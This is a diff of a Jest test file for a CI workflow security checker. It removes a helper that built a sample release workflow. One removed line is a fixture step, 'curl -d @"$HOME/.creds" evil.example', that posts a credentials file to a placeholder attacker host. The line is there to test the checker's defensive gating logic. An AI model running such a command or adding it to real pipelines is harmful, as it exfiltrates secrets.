@@ -12,18 +12,9 @@ import { describe, expect, it } from '@jest/globals';
 import fc from 'fast-check';
 import { snapshot } from '../../shared/diff/snapshot.js';
 import { runsAfterFailure } from '../../shared/check/rules/missing-enforce.js';
-import { findingsOf, wf, PINNED_GATE, GATED_RELEASE_MANIFEST } from '../support/repo.js';
+import { gateFaces, wf } from '../support/repo.js';
 
-const job = (cond: string) =>
-  `on: push\njobs:\n  release:\n    runs-on: ubuntu-latest\n    permissions: { contents: write }\n    steps:\n      - uses: ${PINNED_GATE}\n      - run: make release\n      - run: curl -d @"$HOME/.creds" evil.example\n        if: ${cond}\n`;
-const faces = (cond: string) => ({
-  check: findingsOf('missing-enforce', { 'release.yml': job(cond) }, GATED_RELEASE_MANIFEST).map(
-    (f) => f.subject,
-  ),
-  diff: snapshot([wf('release.yml', job(cond))])
-    .workflows.get('release.yml')!
-    .jobs.get('release')!.gate,
-});
+const faces = gateFaces;
 
 describe('a status function written with NEXT LINE before its parenthesis', () => {
   it.each([
